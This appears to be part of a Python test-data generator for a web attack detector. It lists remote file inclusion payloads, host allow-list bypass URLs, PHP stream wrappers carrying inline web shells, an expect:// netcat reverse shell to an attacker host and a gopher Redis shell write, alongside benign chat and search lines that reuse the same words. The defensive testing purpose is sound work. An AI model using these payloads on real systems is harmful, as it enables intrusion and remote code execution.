    "http://attacker.example/tpl/header.html",
    "http://attacker.example/cmd.txt?c=id",
    "https://attacker.example/s.php.jpg",
    "http://attacker.example/rev.txt",
    # the include parameter written into the query by hand, with the command beside it
    ("page=http://attacker.example/s.txt&c=id", "param-name", "rs-param-name"),
    ("include=http://attacker.example/i.txt&cmd=cat+/flag", "form", "rs-raw-body"),
    ("template=https://attacker.example/t.tpl", "param-name", "rs-param-name"),
    ("file=http://attacker.example/f.txt?&x=ls", "form", "rs-raw-body"),
    ("path=http://attacker.example/&c=uname", "param-name", "rs-param-name"),
    ("page=https://attacker.example/shell.txt?", "form", "rs-raw-body"),
    ("include=ftp://attacker.example/s.txt", "param-name", "rs-param-name"),
]
# Target: includes and fetchers with a host allow-list: parser differentials and look-alike hosts.
OFF_DOMAIN: list[Entry] = [
    "https://attacker.example/payload.php",
    "http://evil.attacker.example/x",
    "//attacker.example/x.txt",
    # constraint: must "contain" the trusted host
    "http://trusted.example@attacker.example/s.txt",
    "https://trusted.example.attacker.example/s.txt",
    "http://attacker.example/trusted.example/s.txt",
    "http://attacker.example?trusted.example",
    # constraint: validator and fetcher parse differently
    "http://attacker.example#@trusted.example/",
    "http://attacker.example\\@trusted.example/",
    "http://attacker.example%23.trusted.example/",
    "http://trusted.example:80@attacker.example/",
    "http://trusted.example%40attacker.example/",
    "https:attacker.example/s.txt",
    "http:/attacker.example/s.txt",
    "https:/\\attacker.example/s.txt",
    "/\\attacker.example/s.txt",
    # constraint: ASCII-only host check before IDNA mapping
    "https://attacker\u3002example/s.txt",
    "http://\u24d0ttacker.example/s.txt",
    "https://attacker\uff0eexample/s.txt",
    # constraint: must end with the trusted suffix
    "http://attacker.example/?x=.trusted.example",
    "http://attackertrusted.example/s.txt",
    # open redirect on the trusted host bouncing to the player's server
    "https://trusted.example/redirect?url=http://attacker.example/s.txt",
    "https://trusted.example/logout?next=//attacker.example/s.txt",
    # free hosting players use for stages
    "https://raw.githubusercontent.com/p1ayer/ctf/main/rev.txt",
    "https://transfer.sh/abc123/s.txt",
    "https://attacker.example/..%2f..%2fs.txt",
    # constraint: validator splits on the first dot / stops at NUL / follows a proxy endpoint
    "https://trusted.example%2eattacker.example/s.txt",
    "http://trusted.example&@attacker.example#@trusted.example/",
    "http://attacker.example%00.trusted.example/s.txt",
    "https://trusted.example/proxy?u=https://attacker.example/s.txt",
    "https://attacker.example:443\\@trusted.example/",
    "https://198.51.100.23.nip.io/s.txt",
    "https://cdn.jsdelivr.net/gh/p1ayer/ctf@main/s.txt",
    "https://attacker.example/s.txt;trusted.example",
]
# Target: PHP wrappers and Windows path handling that fetch remote content without http.
PROTOCOLS: list[Entry] = [
    # constraint: http and https blacklisted
    "ftp://attacker.example/s.txt",
    f"ftp://anonymous@{ATK}/pub/s.php",
    "ftps://attacker.example/inc.txt",
    "smb://attacker.example/share/s.php",
    # constraint: allow_url_include Off on Windows: UNC paths go through SMB / WebDAV anyway
    "\\\\attacker.example\\share\\s.php",
    f"\\\\{ATK}\\x\\shell.php",
    "\\\\attacker.example@SSL\\DavWWWRoot\\s.php",
    "\\\\attacker.example@80\\webdav\\s.php",
    "//attacker.example/share/s.php",
    "file://attacker.example/share/s.php",
    # data: the "remote" file is the URL itself
    "data://text/plain;base64," + _b64("<?php system('cat /flag');?>"),
    "data:text/plain,<?php system('cat /flag');?>",
    "data://text/plain,<?=`cat /flag`;",
    "data:;base64," + _b64("<?php passthru($_GET['c']);"),
    "DaTa://text/plain;base64," + _b64(SHELL_PHP),
    # expect:// (PECL expect) runs the command directly
    "expect://id",
    "expect://cat /flag",
    "expect://ls",
    # other stream wrappers and URL schemes fetchers follow
    "ssh2.exec://ctf:ctf@127.0.0.1:22/cat /flag",
    "ssh2.sftp://user:pass@attacker.example:22/s.php",
    "jar:http://attacker.example/x.jar!/s.class",
    "gopher://127.0.0.1:6379/_SET%20x%20%22%3C%3Fphp%20system(%24_GET%5B0%5D)%3B%3F%3E%22",
    "dict://127.0.0.1:11211/stats",
    "tftp://attacker.example/s.txt",
    "netdoc:///etc/passwd",
    # constraint: only the first scheme is checked, or only http(s) is blocked
    "ftp://ftp:ftp@attacker.example:2121/s.php",
    "smb://198.51.100.23/pub/shell.txt",
    "\\\\attacker.example\\DavWWWRoot\\s.php",
    "file:////attacker.example/share/s.php",
    "php://filter/resource=http://attacker.example/s.txt",
    "data:text/plain;base64," + _b64("<?php readfile('/flag');"),
    "data://text/plain;charset=utf-8,<?php echo file_get_contents('/flag');?>",
    f"expect://nc {ATK} 4444 -e sh",
]

FAMILIES: list[tuple[str, str, list[Entry]]] = [
    ("rce", "unix-command-injection", UNIX_SEPARATORS),
    ("rce", "unix-shell-evasion", UNIX_EVASION),
    ("rce", "windows-cmd-injection", WINDOWS_CMD),
    ("rce", "powershell", POWERSHELL),
    ("rce", "unix-command-with-path", UNIX_FULL_PATH),
    ("rce", "reverse-shell", REVERSE_SHELLS),
    ("rce", "shellshock", SHELLSHOCK),
    ("rce", "downloader", DOWNLOADERS),
    ("rce", "file-write-via-shell", FILE_WRITE),
    ("rce", "restricted-file-in-command", RESTRICTED_FILES),
    ("lfi", "path-traversal", TRAVERSAL),
    ("lfi", "os-file-access", OS_FILES),
    ("lfi", "absolute-path", ABSOLUTE_PATHS),
    ("lfi", "null-byte-truncation", NULL_BYTES),
    ("lfi", "php-wrapper-lfi", PHP_WRAPPERS),
    ("lfi", "log-poisoning-target", LOG_POISON),
    ("lfi", "restricted-file-extension", RESTRICTED_EXTENSIONS),
    ("rfi", "url-with-ip-address", URL_IP),
    ("rfi", "url-with-trailing-question-mark", URL_QMARK),
    ("rfi", "include-parameter-with-url", INCLUDE_PARAM),
    ("rfi", "off-domain-reference", OFF_DOMAIN),
    ("rfi", "remote-protocol", PROTOCOLS),
]
# the include parameter written as `name=value` goes unquoted where it names the place
RAW_KV_SUBS = {"include-parameter-with-url"}
# shellshock lives where CGI bash imports environment variables: headers, cookies, the query string
SUB_CYCLES = {"shellshock": (["header:User-Agent", "header:Referer", "cookie", "header:X-Api-Version", "query"],
                             ["rs-header:User-Agent", "rs-header:Referer", "rs-header:X-Test-Header", "rs-cookie",
                              "rs-query"])}
LATIN_CYCLES = (["query", "form", "param-name", "path"], ["rs-query", "rs-form", "rs-raw-body", "rs-param-name"])
# include-style names for the include family, in both placements
SUB_NAMES = {"include-parameter-with-url": ["page", "file", "template", "include", "path"]}

# ----------------------------------------------------------------------------------------------------------------
# Placements
REAL_NAMES = {"rce": ["host", "ip", "q", "domain", "target", "filename", "name", "cmd"],
              "lfi": ["file", "page", "path", "template", "doc", "lang", "view", "q"],
              "rfi": ["url", "page", "src", "include", "template", "load", "callback"]}


def _latin(value: str) -> bool:
    """The value stands for raw bytes 0x80-0xff (overlong UTF-8 sent as-is on the wire)."""
    return any("\x80" <= ch <= "\xff" for ch in value) and all(ord(ch) < 0x100 for ch in value)


class _Set(BlindSet):
    prefix = NAME
    families = FAMILIES
    raw_subs = RAW_KV_SUBS
    kv_safe = "=&[]._-:/'*$!(),;{}~@+"
    upload = "GIF89a;"
    xml_places = ("xml", "rs-xml", "rs-raw-body")
    xml_controls = CONTROLS_BUT_NUL

    def cycles(self, category: str, sub: str, payload: str) -> Cycles:
        if _latin(payload):
            return LATIN_CYCLES
        return SUB_CYCLES.get(sub, (self.real_cycle, self.rs_cycle))

    def name(self, category: str, sub: str, k: int) -> str:
        names = SUB_NAMES.get(sub, REAL_NAMES[category])
        return names[k % len(names)]

    def rs_name(self, category: str, sub: str, k: int) -> str:
        if sub not in SUB_NAMES:
            return super().rs_name(category, sub, k)
        # its own names, the one after the entry's index i (k is i + 3s, s the sub-family's index)
        names, s = SUB_NAMES[sub], [f[1] for f in self.families].index(sub)
        return names[(k - 3 * s + 1) % len(names)]

    def is_latin(self, sub: str, payload: str) -> bool:
        return _latin(payload)


SET = _Set()


def attacks() -> Iterator[dict[str, Any]]:
    return SET.attacks()


# ----------------------------------------------------------------------------------------------------------------
# Benign: the same words, typed innocently (Slack chat and bios, searches, admin notes, links, profiles, uploads)
CHAT = [
    "anyone up for the picoCTF web track this weekend? we need someone for the LFI ones",
    "write-up for last night's command injection challenge is in #ctf, the trick was a newline",
    "the flag format this year is CTF{...}, don't paste flags in the public channel please",
    "I solved the ping challenge but only after reading the hint about output not being shown",
    "reminder: the training lab VMs reset at midnight, save your notes",
    "can someone review my write-up? the path traversal part feels too hand-wavy",
    "HTB box retired today, so we can finally publish the write-up",
    "our team finished 14th out of 600, not bad for a first CTF",
    "the CTF infra runs on k8s, each challenge gets its own namespace",
    "who owns the OWASP juice shop instance for the onboarding lab?",
    "cat the deploy log and grep for 'error', the build died on step 4",
    "run `curl -I https://status.example.org` and check the cache headers",
    "tail -f /var/log/nginx/access.log on staging shows the health checks every 10s",
    "the cron job that rotates the access.log failed again, disk at 91%",
    "`ls -la` in the repo root shows the .env file is missing, copy .env.example",
    "please don't commit .env or id_rsa files, the pre-commit hook should catch it",
    "the .git folder was accidentally in the Docker image, fixed in 3.4.2",
    "we moved config to /etc/myapp/config.yaml, update your local setup",
    "import paths like ../../common/utils are getting ugly, let's add an alias",
    "on Windows the path is C:\\Users\\you\\AppData\\Local\\myapp\\logs",
    "PowerShell users: Get-Content .\\settings.json | ConvertFrom-Json works fine",
    "the install script is `curl -fsSL https://get.example.org | sh`, but please read it first",
    "wget the release tarball from GitHub, checksum is in the release notes",
    "the bash 5.2 upgrade broke one of our scripts, `set -u` was the culprit",
    "shellshock was 2014, our base images have had patched bash for a decade",
    "nc -zv db.internal 5432 says the port is open, so it's the password",
    "socat is handy for forwarding the debugger port from the pod",
    "the reverse proxy strips the X-Forwarded-Host header now",
    "php.ini on the legacy box still has allow_url_include off, good",
    "the include path for templates is resolved relative to the theme folder",
    "web.config rewrite rules are only for the IIS mirror, nginx config is separate",
    "the backup job writes dump.sql to S3 at 02:00 UTC",
    "old config.php.bak files were cleaned from the server last week",
    "FTP access for the printer vendor is finally removed",
    "the SMB share \\\\fileserver\\marketing is read-only for contractors now",
    "data: URLs for the small icons save us a few requests",
    "the expect library is only in the test suite",
    "who left `sleep 5` in the integration test? the suite takes forever",
    "use `find . -name '*.log' -mtime +7 -delete` on the build agents",
    "the /proc/self/status trick for memory stats works inside the container too",
    "we allow-list webhook URLs per team; custom domains need a ticket",
    "the open redirect report from the bug bounty was valid, patched in the login flow",
    "bug bounty triage: the path traversal report is a duplicate of #4412",
    "release notes: fixed a bug where file names with spaces broke the importer",
    "release 2.9 adds UNC path support for the Windows agent",
    "the phar packaging for the CLI tool is deprecated, use the docker image",
    "our training lab covers SSRF, LFI, RFI and command injection, slides in the drive",
    "Burp Suite licence renewed for the security team",
    "the semgrep rule for os.system with user input found two old scripts",
    "ngrok tunnel for the demo is up, link in the thread",
    "pastebin links are blocked by the proxy, use the internal gist server",
    "the test IPs are 203.0.113.10 and 198.51.100.7, documentation ranges",
    "the intern asked what `2>&1` means, I pointed them at the bash manual",
    "Mark's laptop has PowerShell 7.4, set-executionpolicy is handled by IT",
    "the win.ini question came up in the Windows 95 nostalgia thread, not work related",
    "passwd change for the shared kiosk account is due Monday",
    "the boot.ini on that old XP test machine is getting framed",
    "I like `tee` for saving a command's output while still seeing it",
    "Dockerfile uses `RUN wget -q ... && tar xzf ...`, we should pin the checksum",
    "sorry, typo'd the ticket: it's /var/www/html not /var/www/htm",
]
SEARCHES = [
    "path traversal", "command injection", "ctf write-up", "picoctf", "hack the box", "tryhackme",
    "reverse shell cheat sheet talk", "shellshock", "/etc/passwd", "win.ini", "web.config", ".htaccess",
    "id_rsa", ".env", "php://filter", "powershell", "bash", "curl", "wget", "netcat", "socat",
    "access.log", "backup.sql", "config.bak", "remote file inclusion", "local file inclusion",
    "Smith & Sons", "R&D team", "C:\\Users", "ftp migration",
]
PROSE = [
    "Ticket 8812: customer reports the CSV importer rejects file names containing ../ from a Mac export",
    "Note for the training lab: students must not point the RFI exercise at real hosts, use lab.example only",
    "CTF debrief: the winning team used a newline in the ping form; we'll cover input validation in the retro",
    "Support: user asked why uploads named 'report (final).pdf' show as 'report _final_.pdf'",
    "Security review: the old admin export used os.system; replaced with subprocess without a shell",
    "The Windows agent logs to C:\\ProgramData\\Agent\\logs\\agent.log by default",
    "Customer on IIS needs the web.config snippet from the install guide, section 4.2",
    "Please rotate the SSH key that was pasted in chat; the id_rsa.pub part is fine to share",
    "Release 3.2: absolute paths such as /var/lib/app/data are now accepted in the storage setting",
    "Escalation: access.log on node 3 grew to 40 GB, logrotate was misconfigured",
    "The bash upgrade (shellshock era) is long done; keeping this note for the audit trail",
    "Customer wants to fetch their logo from https://cdn.customer.example/logo.png",
    "Reminder: the PowerShell module needs Set-ExecutionPolicy RemoteSigned on the kiosk machines",
    "Training feedback: the command injection lab was too easy, add a filter round",
    "The user typed 'rm -rf' in the search box as a joke; nothing to do",
    "Write-up review: explain why the null byte trick stopped working after PHP 5.3",
    "Partner asked whether we support FTP uploads; answer is SFTP only",
    "The staging URL is http://10.0.4.12:8080, VPN required",
    "Invoice dispute for R&D | order 5521; finance has it",
    "Audit: the .git directory is not served, nginx denies dotfiles",
    "The docs link to php.net for the include() behaviour; that page explains allow_url_include",
    "Candidate's CV mentions CTF experience and HTB rank, forward to security hiring",
    "Meeting notes: backup.sql retention is 30 days, encrypted at rest",
    "curl | sh installers are discouraged in our security guidelines, use the package repo",
    "Old phone system config file (config.ini) is still on the shared drive",
    "The printer's web UI asks for the admin password stored in KeePass",
    "Lab guide step 3: open the browser at http://localhost:8000 and log in as student",
    "The .htaccess rules were converted to nginx location blocks in the migration",
    "Customer's IT blocks PowerShell downloads; send the MSI instead",
    "Can we add a note to the docs that Windows paths use backslashes, e.g. D:\\exports\\users.csv",
]
URLS = [
    "https://ctftime.org/event/2315",
    "https://play.picoctf.org/practice?category=1&page=1",
    "https://app.hackthebox.com/machines/Trick",
    "https://tryhackme.com/room/fileinc",
    "https://owasp.org/www-community/attacks/Path_Traversal",
    "https://owasp.org/www-community/attacks/Command_Injection",
    "https://portswigger.net/web-security/file-path-traversal",
    "https://portswigger.net/web-security/os-command-injection",
    "https://cwe.mitre.org/data/definitions/22.html",
    "https://cwe.mitre.org/data/definitions/78.html",
    "https://nvd.nist.gov/vuln/detail/CVE-2014-6271",
    "https://www.php.net/manual/en/wrappers.php.php",
    "https://www.php.net/manual/en/function.include.php",
    "https://www.gnu.org/software/bash/manual/bash.html#Shell-Expansions",
    "https://learn.microsoft.com/en-us/powershell/module/microsoft.powershell.management/get-content",
    "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/type",
    "https://curl.se/docs/manpage.html",
    "https://github.com/ctf-team/writeups/blob/main/2024/web/ping-pong/README.md",
    "https://docs.nginx.com/nginx/admin-guide/monitoring/logging/",
    "https://git-scm.com/docs/gitignore",
    "https://blog.example.org/2024/06/how-we-ran-our-first-internal-ctf",
    "https://httpd.apache.org/docs/2.4/howto/htaccess.html",
]
PROFILES = [
    ("Smith & Sons Plumbing", "12 Bash Street, Dundee"),
    ("Curl Up Café", "3 Wget Lane, Bristol"),
    ("Pipe | Line Studio", "Unit 4, 88 Commercial Road, London"),
    ("O'Connor Security Training", "Floor 2, 19 Harbour St, Cork"),
    ("Flag & Banner Co.", "221 Market St, Philadelphia, PA"),
    ("Shell Garage", "Route 66, Tulsa, OK"),
    ("Team Null Byte (CTF club)", "Room 1.07, Informatics Forum, Edinburgh"),
    ("Ana da Silva", "Rua dos Pinheiros, 1000 - apto 52, São Paulo"),
    ("Catalina Ortiz", "Calle de Alcalá 45, 3º izq., Madrid"),
    ("Nils Åberg", "Storgatan 7 B, Umeå"),
    ("Windows & Doors Ltd", "Unit 9, Trade Park, Leeds LS11"),
    ("Dr. Priya Nair", "Flat 3/2, 40 Cat Road, Glasgow"),
    ("Root Cause Consulting", "PO Box 404, Wellington"),
    ("Powers Hell-Yeah Gym", "5 Main St, Dublin"),
    ("Tee Time Golf Shop", "14 Links Rd, St Andrews"),
]
UPLOAD_NAMES = [
    "users_export (1).csv", "ctf-writeup-final.pdf", "team & partners.csv", "résumé-2024.pdf",
    "access.log.2024-06-01.gz", "flag_of_norway.png", "config.sample.ini", "backup-notes.txt",
    "shellshock-retro-slides.pdf", "C-drive screenshot.png", "report..final.docx", "list.old.csv",
]
BENIGN_HEADERS = [
    ("Referer", "https://ctftime.org/team/12345"),
    ("Referer", "https://play.picoctf.org/practice/challenge/275"),
    ("Referer", "https://portswigger.net/web-security/os-command-injection/lab-simple"),
    ("User-Agent", "curl/8.5.0"),
    ("User-Agent", "Wget/1.21.4"),
    ("User-Agent", "python-requests/2.32.3"),
    ("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Microsoft Windows 10.0.22631; en-US) PowerShell/7.4.2"),
    ("Accept-Language", "en-GB,en;q=0.9,fr;q=0.6"),
    ("X-Api-Version", "2024-06-01"),
    ("X-Request-Id", "3c5f1e2a-9b7d-4e6f-8a1c-2d3e4f5a6b7c"),
    ("Cookie", "session=abc123; last_search=path%20traversal; theme=dark"),
    ("Cookie", "session=abc123; lang=en; tz=Europe%2FDublin"),
    ("X-Forwarded-For", "198.51.100.7"),
    ("Referer", "https://github.com/ctf-team/writeups/tree/main/2024/web"),
]


def benign() -> Iterator[dict[str, Any]]:
    return SET.benign(NAME, CHAT, SEARCHES, URLS, PROSE, PROFILES, UPLOAD_NAMES, BENIGN_HEADERS)


if __name__ == "__main__":
    print_records(attacks(), benign())
